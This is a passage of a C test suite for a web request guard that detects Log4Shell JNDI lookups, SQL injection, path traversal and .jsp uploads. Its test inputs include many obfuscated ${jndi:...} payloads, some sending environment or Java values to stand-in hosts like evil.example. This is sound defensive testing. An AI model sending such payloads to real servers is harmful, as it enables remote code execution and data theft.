        {"application/json", "[\"${${a\xc1\xbd:-j}ndi:x}\"]", "lookup reaches json:/0 x"},
        {"application/json", "[\"\xe3\x80\xa4\xe0\xa4\xa4\xf0\x9f\x98\x80{jndi:x}\"]", "nothing"},
        {"application/json; charset=shift_jis", "[\"\xc0\xa4{jndi:x}\"]", "nothing"},
        {"application/json", "[\"\xc0\"]", "nothing"},
    };
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, KIB(64));
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct slice body = slice_str(cases[i].body);
        body_is(&p, cases[i].type, "", body, cases[i].want);
        probe_begin(&p);
        assert_ok(guard_body_begin(&p.q, slice_str(cases[i].type), SLICE_LIT("")));
        for (size_t cut = 4; cut < body.n; cut++) {
            struct slice pieces[] = {slice_sub(body, 0, cut), slice_sub(body, cut, body.n)};
            if (strcmp(cases[i].want, "nothing") != 0)
                assert_false(guard_body_clean_pieces(&p.q, pieces, 2));
        }
        probe_end(&p);
    }
    for (size_t n = 0; n < 20000; n += 1111) { /* far from what it begins with */
        buf_clear(&b);
        (void)buf_add_str(&b, "[\"${${a:");
        for (size_t i = 0; i < n; i++)
            (void)buf_add_char(&b, 'a');
        (void)buf_add_str(&b, ":-}\xc1\xaandi:x}\"]");
        body_is(&p, "application/json", "", buf_slice(&b), "lookup reaches body x");
    }
    buf_done(&b);
    probe_done(&p);
}

/* Text in two or four bytes a letter, its escapes and entities; and what only looks like it. */
static struct slice wide(const char *text, size_t unit, bool big, const char *mark, struct buf *out)
{
    buf_clear(out);
    assert_ok(buf_add(out, mark, strlen(mark) + (unit == 4 && *mark == '\xff' ? 2 : 0)));
    for (; *text; text++) {
        uint8_t u[4] = {0};
        u[big ? unit - 1 : 0] = (uint8_t)*text;
        assert_ok(buf_add(out, u, unit));
    }
    return buf_slice(out);
}

static void test_wide(void **state)
{
    static const struct {
        const char *type, *text, *want;
    } cases[] = {
        {"application/json", "{\"a\":\"\\u0024\\u007bjndi:ldap://x/a}\"}",
         "lookup reaches json:/a ldap://x/a"},
        {XML, "<a>&#36;&#123;jndi:ldap://x/a}</a>", "lookup reaches xml:a ldap://x/a"},
        {"application/json", "{\"a\":\"harmless\"}", "nothing"},
    };
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, KIB(64));
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        for (size_t k = 0; k < 8; k++) {
            size_t unit = k & 1 ? 4 : 2;
            bool big = k & 2;
            const char *mark = !(k & 4) || (unit == 4 && big) ? ""
                               : big                          ? "\xfe\xff"
                                                              : "\xff\xfe\0";
            body_is(&p, cases[i].type, "", wide(cases[i].text, unit, big, mark, &b), cases[i].want);
        }
    buf_clear(&b); /* the first letter does not tell */
    assert_ok(buf_add(&b, "\x42\x30\0\0", 4));
    struct buf more;
    buf_init(&more, KIB(4));
    assert_ok(buf_add_slice(&b, wide(P, 4, false, "", &more)));
    body_is(&p, "text/plain; charset=utf-32le", "", buf_slice(&b),
            "lookup reaches body ldap://x/a");
    probe_begin(&p);
    assert_ok(guard_body_begin(&p.q, SLICE_LIT("text/plain; charset=utf-32le"), SLICE_LIT("")));
    assert_false(guard_body_clean(&p.q, buf_slice(&b)));
    probe_end(&p);
    static const struct slice lies[] = {SLICE("\0\0\0{\"a\":\"" P "\"}"),
                                        SLICE("{\0\0\0\"a\":\"" P "\"}"),
                                        SLICE("\0{\"a\":\"" P "\"}"), SLICE("{\0\"a\":\"" P "\"}")};
    for (size_t i = 0; i < ARRAY_LEN(lies); i++)
        body_is(&p, "application/json", "", lies[i], "lookup reaches body ldap://x/a");
    body_is(&p, "application/json", "", SLICE_LIT("\xef\xbb\xbf{\"a\":\"" P "\"}"),
            "lookup reaches json:/a ldap://x/a");
    buf_done(&more);
    buf_done(&b);
    probe_done(&p);
}

/* --- rules */

static struct guard_rules *rules_of(const char *lines)
{
    struct guard_rules *r = NULL;
    struct err e = {0};
    char text[2000];
    (void)snprintf(text, sizeof text, "hikeshi-rules 1\nversion 1 2021-12-14T09:00:00Z\n%s", lines);
    if (guard_rules_parse(slice_str(text), &r, &e) != OK)
        fail_msg("%s", e.msg);
    return r;
}

static void test_callbacks(void **state)
{
    static const struct {
        const char *text, *want;
    } cases[] = {
        {"${jndi:ldap://ldap.corp.example/a}", "nothing"},
        {"%24%7Bjndi:ldap://LDAP.corp.example.:389/a%7D", "nothing"},
        {"${jndi:ldap://ldap.corp.example/a} ${jndi:ldap://x}", "lookup reaches body ldap://x"},
        {"${jndi:ldap://x} ${jndi:ldap://ldap.corp.example/a}", "lookup reaches body ldap://x"},
        {"${jndi:ldap://ldap.corp.example/a} ${JNDI:rmi://ldap.corp.example}", "nothing"},
        /* what its answer leads to is looked at as if there were none */
        {"${${${jndi:ldap://ldap.corp.example/}:-jndi}:ldap://x/}",
         "lookup reaches body ldap://x/"},
        /* disguised, it counts */
        {"${${lower:j}ndi:ldap://ldap.corp.example/a}",
         "lookup reaches body ldap://ldap.corp.example/a"},
        {"JHtqbmRpOmxkYXA6Ly9sZGFwLmNvcnAuZXhhbXBsZS9hfQ==",
         "lookup reaches body ldap://ldap.corp.example/a"},
        {"${jndi:ldap://ldap.corp.example", "lookup if-closed body ldap://ldap.corp.example"},
        {"${jndi:ldap://a.evil.example/a}", "callback reaches body ldap://a.evil.example/a"},
        {"${ jndi:ldap://a.evil.example/a}", "callback attempt body ldap://a.evil.example/a"},
        {"${jndi:dns://${env:USER}.evil.example}",
         "callback reaches body dns://${env:USER}.evil.example"},
        /* what only the server knows is no part of the name that is looked up in the list */
        {"${jndi:ldap://${java:version}.evil.example/a}",
         "callback reaches body ldap://${java:version}.evil.example/a"},
        {"${jndi:ldap://${env:NaN:-x.evil.example}/a}",
         "callback reaches body ldap://${env:NaN:-x.evil.example}/a"},
        {"${jndi:ldap://${env:NaN:-x.evil.example:389/a}}",
         "callback reaches body ldap://x.evil.example:389/a"},
        {"${jndi:ldap://ldap.corp.example/${env:USER}}", "nothing"},
        {"${jndi:ldap://${ctx:user}@ldap.corp.example/a}",
         "lookup reaches body ldap://${ctx:user}@ldap.corp.example/a"},
        {"${jndi:ldap://ldap.corp.example:${ctx:port}/a}",
         "lookup reaches body ldap://ldap.corp.example:${ctx:port}/a"},
        {"${jndi:ldap://${env:NaN:-ldap.corp.example}/a}",
         "lookup reaches body ldap://${env:NaN:-ldap.corp.example}/a"},
        {"${jndi:ldap://${ctx:user}.ok.example/a}",
         "lookup reaches body ldap://${ctx:user}.ok.example/a"},
        {"${jndi:ldap://a.ok.example/a}", "nothing"},
        {"a.evil.example", "nothing"},
        {"${name} a.evil.example", "nothing"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    struct guard_rules *r =
        rules_of("allow callback ldap.corp.example\nallow callback *.ok.example\n"
                 "deny callback *.evil.example\n");
    p.rules = r;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        body_is(&p, "text/plain", "", slice_str(cases[i].text), cases[i].want);
    struct buf b; /* many allowed ones hide nothing */
    buf_init(&b, KIB(64));
    for (size_t i = 0; i < (size_t)3 * LIMIT_GUARD_ALLOWED; i++)
        (void)buf_addf(&b, "${jndi:ldap://ldap.corp.example/%zu}", i);
    (void)buf_add_str(&b, "${jndi:ldap://x}");
    probe_body(&p, "text/plain", "", buf_slice(&b));
    assert_int_equal(p.q.found.why, GUARD_LOOKUP);
    buf_done(&b);
    guard_rules_unref(r);
    probe_done(&p);
}

static void test_clients(void **state)
{
    struct probe p;
    (void)state;
    probe_init(&p);
    struct guard_rules *r = rules_of("allow client 10.0.0.0/8\ndeny client 203.0.113.7\n");
    p.rules = r;
    probe_begin(&p); /* 203.0.113.7 */
    assert_string_equal(probe_found(&p), "client");
    assert_true(guard_head_clean(&p.q, SLICE_LIT(P)) && guard_body_clean(&p.q, SLICE_LIT(P)));
    guard_uri(&p.q, SLICE_LIT("/" P));
    assert_string_equal(probe_found(&p), "client");
    probe_end(&p);
    probe_begin_as(&p, "POST", "/", SLICE_LIT("\x0a\x01\x01\x01"));
    guard_uri(&p.q, SLICE_LIT("/" P));
    assert_ok(guard_body_begin(&p.q, SLICE_LIT(FORM), SLICE_LIT("br")));
    guard_body_piece(&p.q, SLICE_LIT(P));
    guard_body_end(&p.q);
    assert_string_equal(probe_found(&p), "nothing");
    probe_end(&p);
    probe_begin_as(&p, "POST", "/", SLICE_LIT("\x0b\x01\x01\x01"));
    guard_uri(&p.q, SLICE_LIT("/" P));
    assert_string_equal(probe_found(&p), "lookup reaches uri ldap://x/a");
    probe_end(&p);
    guard_rules_unref(r);
    probe_done(&p);
}

/* Patterns see decoded values. */
static void test_patterns(void **state)
{
    static const struct {
        const char *type, *body, *want;
    } cases[] = {
        {FORM, "q=union+select", "patch ORDER-7 form:q"},
        {FORM, "q=%75nion%20s%65lect&q=x", "patch ORDER-7 form:q"},
        {FORM, "q=union&q=+select", "nothing"},
        {FORM, "r=union+select", "nothing"},
        {FORM, "r=..%2f..%2f", "signature SIG-1 form:r"},
        {FORM, "..%2f..%2f=1", "signature SIG-1 form:../../ name"},
        {FORM, "r=../../&q=union+select", "patch ORDER-7 form:q"},
        {FORM, "q=union+select&r=" P, "lookup reaches form:r ldap://x/a"},
        {FORM, "skip=../../", "nothing"},
        {FORM, "q=x%2", "signature END form:q"},
        {"application/json", "{\"note\":\"uni\\u006fn\\tselect\"}", "patch NOTE json:/note"},
        {"application/json", "{\"a\":[0,\"..\\/..\\/\"]}", "signature SIG-1 json:/a/1"},
        {"application/json", "{\"..\\/..\\/\":0}", "signature SIG-1 json:/..~1..~1 name"},
        {"application/json", "{\"a\": ../../ }", "signature SIG-1 json:/a"},
        {"application/json", "{\"a\":\"\\ud83d\\ude00!\"}", "signature FACE json:/a"},
        {"text/xml", "<a><b>..&#x2f;..&#47;</b></a>", "signature SIG-1 xml:a/b"},
        {"text/xml", "<a b='..&#x2f;..&#47;'/>", "signature SIG-1 xml:a/@b"},
        {"text/xml", "<a>&lt;&amp;&gt;&quot;&apos;&nix;</a>", "signature ALL xml:a"},
        {"text/xml", "<a><![CDATA[x]]]]></a>", "signature BRACKETS xml:a"},
        {"multipart/form-data; boundary=b",
         "--b\r\nContent-Disposition: form-data; name=\"u\"; "
         "filename=\"..\\\\..\\\\x.jsp\"\r\n\r\n1"
         "\r\n--b--",
         "patch FILE file:u"},
        {"multipart/form-data; boundary=b",
         "--b\r\nContent-Disposition: form-data; name=u; "
         "filename*=utf-8''x%2Ejsp\r\n\r\n1\r\n--b--",
         "patch FILE file:u"},
        {"multipart/form-data; boundary=b",
         "--b\r\nContent-Disposition: form-data; name=n\r\n\r\n..\r\n--bc\r\n/../../\r\n--b--",
         "signature SIG-1 form:n"},
        {"multipart/form-data; boundary=b",
         "--b\r\nContent-Disposition: form-data; name=n\r\n\r\nlast%2\r\n--b--",
         "signature END form:n"},
        {"multipart/form-data; boundary=b",
         "--b\r\nContent-Disposition: form-data; name=n\r\n\r\n\r\n--x\r\r\n--\r\n--b--",
         "signature LINES form:n"},
        {"text/plain", "a ../../ b", "signature SIG-1 body"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    struct guard_rules *r = rules_of("patch ORDER-7 field=form:q pattern=\"(?i)union\\s+select\"\n"
                                     "patch NOTE field=json:/note pattern=\"(?i)union\\s+select\"\n"
                                     "patch FILE field=file:u pattern=\"\\.jsp$\"\n"
                                     "except form:skip\n"
                                     "signature SIG-1 \"\\.\\./\\.\\./\"\n"
                                     "signature END \"%2$\"\n"
                                     "signature FACE \"\\xf0\\x9f\\x98\\x80!\"\n"
                                     "signature ALL \"<&>\\x22'&nix;\"\n"
                                     "signature BRACKETS \"^x\\]\\]$\"\n"
                                     "signature LINES \"^\\r\\n--x\\r\\r\\n--$\"\n");
    p.rules = r;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
    probe_begin(&p);
    assert_false(guard_body_clean(&p.q, SLICE_LIT("harmless")));
    assert_false(guard_head_clean(&p.q, SLICE_LIT("harmless")));
    guard_uri(&p.q, SLICE_LIT("/a/..%2F../b"));
    assert_string_equal(probe_found(&p), "signature SIG-1 uri");
    probe_end(&p);
    guard_rules_unref(r);
    r = rules_of("patch P field=form:q pattern=\"x\"\n");
    p.rules = r; /* heads need no fields for it */
    probe_begin(&p);
    assert_true(guard_head_clean(&p.q, SLICE_LIT("harmless")));
    assert_false(guard_body_clean(&p.q, SLICE_LIT("harmless")));
    probe_end(&p);
    guard_rules_unref(r);
    probe_done(&p);
}

/* What one rule finds in a field does not count; what others find, and lookups, do. */
static void test_rule_excepted(void **state)
{
    static const struct {
        const char *path, *body, *want;
    } cases[] = {
        {"/editor/a", "note=../../", "nothing"},
        {"/editor/a", "r=../../", "signature SIG-1 form:r"},
        {"/editor/a", "note=../../x", "patch X form:note"},
        {"/editor/a", "note=../../&r=../../", "signature SIG-1 form:r"},
        {"/editor/a", "note=" P "../../", "lookup reaches form:note ldap://x/a"},
        {"/", "note=../../", "signature SIG-1 form:note"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    struct guard_rules *r = rules_of("except form:note rule=SIG-1 path=/editor/\n"
                                     "patch X pattern=\"x$\"\n"
                                     "signature SIG-1 \"\\.\\./\\.\\./\"\n");
    p.rules = r;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        probe_begin_as(&p, "POST", cases[i].path, SLICE_LIT("\x0a\x01\x01\x01"));
        assert_false(p.q.scope.any_exception);
        assert_ok(guard_body_begin(&p.q, SLICE_LIT(FORM), SLICE_LIT("")));
        guard_body_piece(&p.q, slice_str(cases[i].body));
        guard_body_end(&p.q);
        assert_string_equal(probe_found(&p), cases[i].want);
        probe_end(&p);
    }
    guard_rules_unref(r);
    probe_done(&p);
}

/* --- credit */

/* Evaluating this takes all that there is: 7 layers of it are beyond any budget. */
static struct slice costly(struct buf *b, size_t n)
{
    buf_clear(b);
    while (b->n < n)
        (void)buf_add_str(b, "${lower:${q ");
    (void)buf_add_str(b, "${jn${q}di:");
    for (size_t i = 0; i < n / 12; i++)
        (void)buf_add_str(b, "}}");
    return buf_slice(b);
}

static const char *ask(struct probe *p, const char *client, struct slice body)
{
    probe_begin_as(p, "POST", "/", slice_of(client, 4));
    assert_ok(guard_body_begin(&p->q, SLICE_LIT("text/plain"), (struct slice){NULL, 0}));
    guard_body_piece(&p->q, body);
    guard_body_end(&p->q);
    probe_end(p);
    return probe_found(p);
}

static void test_credit(void **state)
{
    static const char *const payload = "${${lower:j}${lower:n}${lower:d}i:ldap://x/a}";
    struct probe p;
    struct buf b, long_one;
    (void)state;
    probe_init(&p);
    probe_stop_clock(&p);
    p.g->seed = 1;
    buf_init(&b, MIB(1));
    buf_init(&long_one, MIB(1));
    while (long_one.n < 20000) /* what takes some 100,000 steps to see through */
        (void)buf_add_str(&long_one, "${lower:x}${upper:y}");
    (void)buf_add_str(&long_one, payload);
    assert_string_equal(ask(&p, "\x01\x01\x01\x01", buf_slice(&long_one)),
                        "lookup reaches body ldap://x/a");
    for (int i = 0; i < 200; i++)
        assert_string_equal(ask(&p, "\x01\x01\x01\x01", costly(&b, 3000)), "limit budget body");
    /* his own credit is gone, and an ordinary payload still seen through */
    struct guard_credit *c = guard_credit_of(p.g, guard_client_of(SLICE_LIT("\x01\x01\x01\x01")));
    assert_true(c->left < 100000);
    assert_string_equal(ask(&p, "\x01\x01\x01\x01", slice_str(payload)),
                        "lookup reaches body ldap://x/a");
    assert_string_equal(ask(&p, "\x01\x01\x01\x01", buf_slice(&long_one)), "limit budget body");
    /* nobody else's */
    assert_string_equal(ask(&p, "\x01\x01\x01\x02", buf_slice(&long_one)),
                        "lookup reaches body ldap://x/a");
    buf_done(&b);
    buf_done(&long_one);
    probe_done(&p);
}

/* What customers send: a bundle of 10,000 template strings with everything that JavaScript escapes,
 * plain and in JSON, from one who comes for the first time. */
static void test_ordinary_bundle(void **state)
{
    static const char *const lines[] = {
        "n.push(t?`<li class=\"${t.join}\">${e[9].index??`none:${e.length}`}</li>`:'id:');",
        "n.push(t?`<li class=\\\"${t.join}\\\">${e[9].index??`none:${e.length}`}</li>`:'id:');\\n",
        "a.replace(/[\\u00e0-\\u00ff\\d\\s]/g,x=>`\\x1b[${j}m${i}${n}`),{j,n,d:i};%d%20;&amp;x",
    };
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    probe_stop_clock(&p);
    buf_init(&b, MIB(2));
    for (size_t k = 0; k < ARRAY_LEN(lines); k++) {
        char client[4] = {1, 1, 2, (char)k};
        buf_clear(&b);
        for (size_t i = 0; i < 10000; i++)
            (void)buf_add_str(&b, lines[k]);
        assert_string_equal(ask(&p, client, buf_slice(&b)), "nothing");
    }
    buf_done(&b);
    probe_done(&p);
}

static uint64_t clock_ms;

static uint64_t told_time(void)
{
    return clock_ms;
}

static void test_credit_grows(void **state)
{
    struct guard *g;
    (void)state;
    assert_ok(guard_new(&g));
    g->now_ms = told_time;
    g->grant_ms = clock_ms = 1000;
    struct guard_credit *c = guard_credit_of(g, 7);
    assert_int_equal(c->left, GUARD_CREDIT_NEW);
    guard_credit_spend(g, c, UINT64_MAX);
    assert_int_equal(c->left, 0);
    clock_ms += 10;
    assert_int_equal(guard_credit_of(g, 7)->left, 10 * GUARD_CREDIT_PER_MS);
    clock_ms = 0; /* a clock that goes back gives nothing */
    assert_int_equal(guard_credit_of(g, 7)->left, 10 * GUARD_CREDIT_PER_MS);
    clock_ms = UINT64_MAX;
    assert_int_equal(guard_credit_of(g, 7)->left, GUARD_CREDIT_MOST);
    /* addresses without end share the grant */
    clock_ms = g->grant_ms = 5000;
    uint64_t given = 0;
    g->grant = GUARD_GRANT_MOST;
    for (uint64_t client = 100; client < 4100; client++) { /* ordinary ones leave it to others */
        assert_int_equal(guard_credit_of(g, client)->left, GUARD_CREDIT_NEW);
        guard_credit_spend(g, guard_credit_of(g, client), 1000);
    }
    for (uint64_t client = 100; client < 8100; client++) {
        c = guard_credit_of(g, client);
        given += c->left;
        guard_credit_spend(g, c, c->left);
    }
    assert_true(given <= GUARD_GRANT_MOST);
    assert_int_equal(guard_credit_of(g, 9000)->left, 0);
    guard_free(g);
    assert_int_equal(guard_client_of(SLICE_LIT("\0\0\0\0\0\0\0\0\0\0\xff\xff\x0a\0\0\1")),
                     guard_client_of(SLICE_LIT("\x0a\0\0\1")));
    assert_int_equal(guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\1\0\0\0\0\0\0\0\1")),
                     guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\1\1\1\1\1\1\1\1\1")));
    assert_int_not_equal(guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\1\0\0\0\0\0\0\0\1")),
                         guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\2\0\0\0\0\0\0\0\1")));
    assert_int_not_equal(guard_client_of((struct slice){NULL, 0}), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_codings),
        cmocka_unit_test(test_broken_codings),
        cmocka_unit_test(test_charsets),
        cmocka_unit_test(test_two_readings),
        cmocka_unit_test(test_clean_in_pieces),
        cmocka_unit_test(test_gzip_at_a_cell),
        cmocka_unit_test(test_body_limit),
        cmocka_unit_test(test_bomb),
        cmocka_unit_test(test_clean_takes_no_memory),
        cmocka_unit_test(test_memory_refused),
        cmocka_unit_test(test_excluded),
        cmocka_unit_test(test_said),
        cmocka_unit_test(test_lenient),
        cmocka_unit_test(test_markup),
        cmocka_unit_test(test_long_forms),
        cmocka_unit_test(test_grpc),
        cmocka_unit_test(test_wide),
        cmocka_unit_test(test_callbacks),
        cmocka_unit_test(test_clients),
        cmocka_unit_test(test_patterns),
        cmocka_unit_test(test_rule_excepted),
        cmocka_unit_test(test_credit),
        cmocka_unit_test(test_credit_grows),
        cmocka_unit_test(test_ordinary_bundle),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
